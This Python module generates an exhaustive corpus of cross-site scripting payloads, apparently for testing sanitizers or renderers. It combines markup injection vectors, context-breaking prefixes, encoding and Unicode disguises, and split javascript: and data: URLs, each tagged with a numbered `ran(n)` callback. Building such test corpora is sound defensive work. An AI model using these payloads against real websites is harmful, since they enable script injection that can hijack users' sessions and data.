"""Words that would like to run: families of payloads, each in every way to break out and to hide.

Each calls ``ran(n)``, which the browser is given for the purpose; n says which one it was. Made by code, so that the
list has no gaps that somebody's patience left.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import count, product

RUNS = (
    "<script>ran({n})</script>",
    "<img src=x onerror=ran({n})>",
    "<svg onload=ran({n})>",
    "<svg><animate onbegin=ran({n}) attributeName=x dur=1s>",
    "<body onload=ran({n})>",
    "<details open ontoggle=ran({n})>",
    "<input autofocus onfocus=ran({n})>",
    "<iframe srcdoc='<script>parent.ran({n})</script>'></iframe>",
    "<iframe src=javascript:parent.ran({n})></iframe>",
    "<object data='data:text/html,<script>top.ran({n})</script>'></object>",
    "<video><source onerror=ran({n})></video>",
    "<a href=javascript:ran({n}) autofocus>x</a>",
    "<form action=javascript:ran({n})><button autofocus>x</button></form>",
    "<math><mtext><style><img src=x onerror=ran({n})></style></mtext></math>",
    "<template><script>ran({n})</script></template><script>ran({n})</script>",
    "<meta http-equiv=refresh content='0;url=javascript:ran({n})'>",
    "<base href='javascript:ran({n})//'>",
    "<style>@import 'javascript:ran({n})';</style>",
    "<div style='background:url(javascript:ran({n}))'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=ran({n})>'></noscript>",
)
BREAKS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</p></div></article>", "%}{% endif %}")
DISGUISES = (
    lambda text: text,
    lambda text: text.upper().replace("RAN(", "ran("),
    lambda text: text.replace("<", "<<", 1),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;").replace(">", "&#x3e;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace(" on", "\x0con").replace("=", "\t=\n"),
    lambda text: text.replace("script", "scr\x00ipt"),
    lambda text: text.replace("script", "scr<script>ipt"),
    lambda text: f"\u202e{text}\u2066{text[::-1]}\u2069",
)
SCHEMES = (
    "javascript:ran({n})",
    "vbscript:ran({n})",
    "data:text/html,<script>top.ran({n})</script>",
    "feed:javascript:ran({n})",
)
SPACES = ("", "\t", "\n", "\xa0", "\u2003", "\u3000", "\u200b", "\u202e", "\x01", "\ufeff", "&Tab;", "&#10;", "%09")
FRAMES = (
    "{0}",
    "https://example.org/?a={0}",
    "https://example.org/{0}",
    'https://example.org/" onmouseover=ran({n}) x="{0}',
    "https://{0}@example.org/",
    "www.example.org/#'{0}",
    "[x]({0})",
    "mailto:a@example.org?subject={0}",
)


def breaking_out() -> Iterator[str]:
    """Markup, in every way to leave what stands around it."""
    for run, leave, hide in product(RUNS, BREAKS, DISGUISES):
        yield hide(leave + run)


def leading_astray() -> Iterator[str]:
    """Links that would run something, with a space that is none within them, and those that pretend."""
    for scheme, space, frame in product(SCHEMES, SPACES, FRAMES):
        middle = len(scheme) // 3
        yield frame.replace("{0}", scheme[:middle] + space + scheme[middle:])
        yield frame.replace("{0}", space + scheme)


def corpus(every: int = 1) -> list[str]:
    """All of it, or each so-and-so-manieth, from all families alike."""
    numbers = count(1)
    whole = [*breaking_out(), *leading_astray()]
    return [each.replace("{n}", str(next(numbers))) for each in whole[::every]]
